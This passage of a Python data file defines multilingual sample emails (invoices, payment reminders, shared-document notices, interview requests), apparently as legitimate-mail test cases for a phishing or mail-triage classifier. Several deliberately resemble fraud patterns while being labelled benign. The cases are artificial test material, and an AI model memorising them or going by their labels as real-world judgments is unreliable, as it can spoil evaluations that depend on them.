          words={"link": "https://kirjamessut-my.sharepoint.com/:b:/g/personal/aino/EaB71204"}),
          to="h.virtanen", subject="Aino Mattila jakoi tiedoston: Messuosasto 2026", body="# Aino Mattila jakoi kanssasi tiedoston\n\nHei, tässä messuosaston luonnos "
          "kommentoitavaksi.\n\n[Avaa Messuosasto 2026.pdf]({link})\n\nTämä linkki toimii vain vastaanottajalle {to}."),
]

# ---- Everyday mail ----

EVERYDAY = [
    everyday("en", RIVERTON, "pension statement is ready", THEY["pension_board"], to="l.tremblay", subject="Your annual statement is available",
             body="Hello Luc,\n\nYour 2025 annual statement is now available. Sign in to your account to view it.\n\n[View "
             "statement](https://members.educatorspension.example/statements)\n\nEducators Pension Plan"),
    everyday("fr", RIVERTON, "un collègue en français", RIVERTON.person("l.tremblay"), to="g.okafor", subject="Paiement aux chauffeurs remplaçants",
             body="Grace,\n\nPourrais-tu faire partir le paiement des deux chauffeurs remplaçants avant vendredi ? Les heures sont dans le système, approuvées par Dana.\n\n"
             "Merci,\nLuc"),
    everyday("nl", MAASMOND, "de bunkeraar vraagt om betaling", THEY["tessel"].but(name="Tessel Bunkers, administratie", address="administratie@tessel-bunkers.example"),
      to="accounts", subject="Herinnering factuur 4212", words={"account": grouped(PAYS["tessel"])},
             body="Goedemorgen,\n\nFactuur 4212 van 6 mei (€ 38.114,20) staat nog open. Willen jullie die deze week voldoen op {account}, zoals altijd? Kees is vanaf "
             "maandag met vakantie, dus graag vóór vrijdag.\n\nGroet,\nTessel Bunkers, administratie"),
    everyday("fr", CIGALES, "l'œnologue envoie des analyses en archive", THEY["oenologue"], to="t.arnaud", subject="Analyses cuves 4 à 9",
      body="Bonjour Thomas,\n\nVoici les analyses des cuves 4 à 9. La 6 est à surveiller, volatile à 0,62. On sulfite mercredi ?\n\nÉlise",
             files=(File("analyses_juin.zip", "zip", inside=(File("cuve4.pdf", "pdf", "Cuve 4\nAV 0,41"), File("cuve6.pdf", "pdf", "Cuve 6\nAV 0,62"))),)),
    everyday("en", CIGALES, "an importer orders", THEY["nakamori"], to="t.arnaud", subject="Cuvée 2024 – order", body="Dear Thomas,\n\nWe would like 180 cases of the rosé "
      "and 60 of the white. Could you send a proforma with your bank details? Our bank needs the SWIFT code again because of their new system.\n\nBest regards,\nYuki "
      "Nakamori"),
    everyday("de", WESERLAND, "Kasse schickt Unterlagen mit Kennwort am Telefon", THEY["kasse"], why="A locked archive from those who always send so; the password is told "
      "by telephone.",
             to="s.yildiz", subject="Fallprüfung 4412: Unterlagen", body="Guten Tag Frau Yildiz,\n\nanbei die Unterlagen zur Fallprüfung, wie immer verschlüsselt. Das "
             "Kennwort haben wir mit Ihnen am Telefon vereinbart.\n\nMit freundlichen Grüßen\nSachgebiet Abrechnung",
             files=(File("Fall_4412.zip", "locked", "Fall_4412.pdf"),)),
    everyday("it", BELLANDI, "il perito in viaggio", THEY["perito"].but(program="iphone"), why="On a trip she writes from her telephone.", to="f.greco",
      subject="Perizia 4170", body="Avvocato, sono a Lisbona fino a giovedì. La perizia è pronta, gliela mando stasera dall'albergo. Per la fattura aspetto il suo ok.\n"
      "Carla Monti"),
    everyday("es", ALBARIZA, "la federación pide papeles", THEY["federacion"], to="n.rojas", subject="Licencias pendientes", body="Buenos días, Nacho:\n\nFaltan las fotos y "
      "el DNI de tres juveniles. Si no llegan antes del viernes no podrán jugar el sábado. Súbelas donde siempre: "
      "https://licencias.federacion-territorial.example/club/118\n\nSaludos"),
    everyday("sv", TALLASEN, "hembygdsföreningen ordnar midsommar", THEY["hembygd"], to="j.hagg", subject="Midsommar vid sjön",
      body="Hej Johan!\n\nKan vi få låna kommunens högtalare på midsommarafton som förra året? Vi betalar gärna en slant. Och hur blir det med elen till scenen?\n\n"
      "Hälsningar\nHembygdsföreningen genom Britta"),
    everyday("da", LYSBAKKEN, "ny ansøgning i portalen", THEY["uddeling"], to="s.moller", subject="Ny ansøgning 4282", body="Hej Sofie\n\nDer er kommet en ny ansøgning: "
      "Kammerkoret Havblik søger kr. 40.000 til koncertrejse.\n\n[Se ansøgningen](https://lysbakken.ansoegningsportalen.example/sag/4282)"),
    everyday("nb", FJORDTEATRET, "oppgjør fra billettsalget", THEY["billett"], to="a.nilsen", subject="Oppgjør uke 23", body="Hei!\n\nOppgjøret for uke 23 er klart: kr 184 "
      "220,00 utbetales 16. juni til registrert konto.\n\n[Se oppgjøret](https://arrangor.billettna.example/oppgjor/23)"),
    everyday("pl", KLONOWA, "serwer budujący", THEY["repo"], to="b.kos", subject="[klon/api] Build #4417 failed", body="# Build #4417 failed\n\nmain, commit 7a12ce: 3 tests "
      "failed.\n\n[View log](https://codeforge.example/klon/api/builds/4417)\n\nYou receive this because you watch klon/api."),
    everyday("cs", PODHRADI, "kraj posílá výzvu", THEY["kraj"], to="v.dolezal", subject="Dotace 2026 – doplnění", body="Dobrý den, pane řediteli,\n\nk žádosti prosím "
      "doplňte rozpočet a číslo účtu organizace (kvůli nové smlouvě). Termín je 19. 6.\n\nS pozdravem\nIvana Bláhová\nodbor kultury"),
    everyday("hr", LASTOVICA, "jedrar šalje račun", THEY["jedra"], to="i.juric", subject="Račun 4212", words={"account": grouped(PAYS["jedra"])},
      body="Draga Ivana,\n\nu prilogu je račun za dva genoa jedra. Platiti do kraja mjeseca na {account}. Hvala!\n\nJedrarstvo Bura",
      files=(File("racun_4212.pdf", "pdf", "Jedrarstvo Bura\nRacun 4212\n1.240,00 EUR"),)),
    everyday("tr", MENEKSE, "iplikçi fiyat bildiriyor", THEY["iplik"], to="d.yalcin", subject="Haziran fiyatları", body="Derya Hanım merhaba,\n\nHaziran fiyat listemiz "
      "ektedir, pamuk ipliğinde yüzde 3 artış var. Ödeme koşulları ve hesabımız aynı.\n\nSelma Koç", files=(File("fiyat_haziran.xlsx", "xlsx", "Ürün;TL/kg\n30/1 penye;214"),)),
    everyday("he", ALON, "העורכת שולחת פרק", THEY["orech"], to="m.cohen", subject="עריכה – פרק 7", body="היי מיכל,\n\nפרק 7 מצורף. אני בחו\"ל עד יום חמישי, אפשר להשיג אותי "
      "במייל. חשבונית אשלח בסוף החודש כרגיל.\n\nיעל", files=(File("perek7.docx", "docx", "פרק 7"),)),
]

# ---- Honest first letters ----

UNKNOWN = [
    unknown("en", RIVERTON, "a new supplier asks how to get paid", office("Priya Menon", "priya@lakeside-instruments.example", "CA"), to="payables",
      subject="First invoice – how do we set up?",
            body="Hello,\n\nWe repaired six clarinets for Maple Street school last week and this is our first invoice to the board. Do you pay by direct deposit, and is "
            "there a vendor form? I can also take a cheque.\n\nThanks,\nPriya Menon\nLakeside Instruments, 18 Wharf St.", files=(File("invoice_001.pdf", "pdf", "Lakeside "
            "Instruments\nInvoice 001\n$ 412.00"),)),
    unknown("fr", CIGALES, "une journaliste", free("Camille Rousset", "camille.rousset.presse@laposte.net", "apple"), to="contact",
      subject="Reportage sur les vignobles et la sécheresse", body="Madame, Monsieur,\n\nJe suis journaliste indépendante et je prépare un reportage sur l'irrigation. "
      "Seriez-vous disponibles pour un entretien d'une demi-heure avant le 20 juin ? Mes articles : https://www.camille-rousset.example\n\nCamille Rousset"),
    unknown("en", KLONOWA, "a shared document from the real service", cloud_notice("Lena Fischer (via Google Drive)", "drive-shares-dm-noreply@google.com",
      reply_to="<lena.fischer@nordkurve-app.example>"), why="Google's own notice, signed, of a document at Google.",
            to="b.kos", subject="Document shared with you: \"RFP mobile app\"", body="Lena Fischer (lena.fischer@nordkurve-app.example) has invited you to view the "
            "following document:\n\n[RFP mobile app](https://docs.google.com/document/d/1AbC77xQ/edit?usp=sharing)\n\nHi Bartek, Jana from Fahrtwind recommended you. Could "
            "you look at our RFP and tell me whether it would interest you?"),
    unknown("es", ALBARIZA, "una peña pide entradas", free("Peña La Grada", "penalagrada.albariza@gmail.com"), to="club", subject="Autobús y entradas para el play-off",
      body="Hola:\n\nSomos 46 socios y queremos ir juntos al play-off. ¿Podéis reservarnos entradas y decirnos a qué cuenta hacemos la transferencia? El presidente de la "
      "peña, Toño, puede pasar a recogerlas.\n\nUn abrazo"),
    unknown("pt", SERRA, "torrefadora pede amostra", office("Beatriz Falcão", "beatriz@torrefacaodobairro.example", "PT"), to="f.moreira",
      subject="Amostras para torrefação em Lisboa", body="Boa tarde,\n\nSomos uma pequena torrefação em Lisboa. Gostaríamos de receber amostras da colheita de 2026 e saber "
      "as vossas condições: preço FOB, quantidade mínima e prazo de pagamento. Pagamos os portes, basta dizer-nos como.\n\nBeatriz Falcão"),
    unknown("ro", ZAMBET, "un pacient întreabă despre plată", free("Ioana Dumitru", "ioana.dumitru.88@yahoo.com", "iphone"), to="receptie", subject="plata in rate",
      body="Buna ziua, am primit devizul pentru coroana, 2.900 lei. Se poate plati in doua rate si pot face transfer sau doar card? Multumesc, Ioana Dumitru, programata "
      "marti la 16"),
    unknown("ko", HANEUL, "행사 초대", bulk("부산인디게임축제", "invite@busan-indiefest.example"), to="jiwon.kim", subject="2026 부산인디게임축제 참가사 모집",
      body="# 참가사를 모집합니다\n\n8월 21일부터 사흘 동안 열리는 축제에 함께할 개발사를 찾습니다. 부스비는 무료이며 6월 26일까지 신청하실 수 있습니다.\n\n[참가 신청](https://www.busan-indiefest.example/apply)"),
    unknown("id", JATI, "calon pembeli dari hotel", office("Dewi Lestari", "dewi@villa-samudra.example", "ID"), to="sri.wahyuni", subject="Permintaan penawaran kursi teras",
      body="Selamat siang Bu Sri,\n\nKami sedang merenovasi 20 vila di Lombok dan membutuhkan 80 kursi teras jati. Mohon penawaran harga, waktu produksi, dan cara "
      "pembayarannya. Gambar kami lampirkan.\n\nTerima kasih,\nDewi Lestari", files=(File("kursi.pdf", "pdf", "Kursi teras\nTinggi 84 cm"),)),
    unknown("vi", SAOBIEN, "sinh viên xin số liệu", free("Ngô Bảo Trâm", "baotram.ngo.luanvan@gmail.com"), to="lan.pham", subject="Xin phỏng vấn cho luận văn",
      body="Kính gửi chị Lan,\n\nEm là sinh viên năm cuối ngành thủy sản, đang viết luận văn về xuất khẩu tôm sang Nhật. Chị có thể dành cho em 20 phút phỏng vấn trong tuần "
      "tới không ạ? Em xin gửi trước các câu hỏi nếu chị đồng ý.\n\nEm cảm ơn chị,\nBảo Trâm"),
]

CASES = KNOWN + STRANGERS + EVERYDAY + UNKNOWN
